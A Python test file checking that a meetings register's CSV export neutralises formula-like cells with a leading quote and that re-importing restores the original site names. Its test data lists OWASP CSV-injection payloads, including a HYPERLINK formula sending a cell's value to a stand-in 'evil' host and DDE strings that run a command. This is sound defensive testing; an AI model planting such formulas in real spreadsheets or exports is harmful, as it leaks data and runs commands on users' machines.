"""The register's export quotes what a spreadsheet would run; its import takes the quote off."""

from __future__ import annotations

import csv
import io
from typing import Any

from aiohttp.test_utils import TestClient
from sqlalchemy.ext.asyncio import AsyncSession

from meetings.register import export, files
from tests.factories import make_site
from tests.meetings.register.test_imports import organiser, register, run_import

#: OWASP's CSV injection vectors, as names an organiser could type for a site.
HOSTILE = [
    '=HYPERLINK("http://evil/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "'=1+1 with its own quote",
]
NAMES = {f"EVIL-{n}": name for n, name in enumerate(HOSTILE)}
#: As the export writes them: one more quote in front of each.
QUOTED = {code: "'" + name for code, name in NAMES.items()}


async def _hostile_register(session: AsyncSession) -> None:
    async with session.begin():
        for code, name in NAMES.items():
            await make_site(session, code=code, name=name, province="-", endpoint="@room")


def _cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


async def test_export_csv_quotes_every_formula_like_cell(store_session: AsyncSession):
    await _hostile_register(store_session)

    async with store_session.begin():
        content = await export.export_sites_csv(store_session)

    header, *rows = _cells(content)
    assert {row[0]: row[1] for row in rows} == QUOTED
    assert {(row[2], row[6]) for row in rows} == {("'-", "'@room")}
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]


async def test_export_then_import_gives_back_the_same_names(store_session: AsyncSession):
    await _hostile_register(store_session)
    before = await register(store_session)
    async with store_session.begin():
        content = await export.export_sites_csv(store_session)

    read = [cells for _line, cells in files.read_rows(content, "csv")]
    again = await run_import(store_session, content)

    assert {cells[0]: cells[1] for cells in read[1:]} == NAMES
    assert (again.unchanged, again.updated) == (len(HOSTILE), 0)
    assert await register(store_session) == before


async def test_api_export_csv_is_inert_and_imports_back_unchanged(
    client: TestClient, session_factory: Any
):
    headers = await organiser(session_factory)
    async with session_factory() as session:
        await _hostile_register(session)

    exported = await client.get("/api/v1/sites/export.csv", headers=headers)
    content = await exported.read()
    imported = await client.post(
        "/api/v1/sites/import", data=content, headers={**headers, "Content-Type": "text/csv"}
    )

    assert {row[0]: row[1] for row in _cells(content)[1:]} == QUOTED
    assert imported.status == 200
    assert (await imported.json())["unchanged"] == len(HOSTILE)
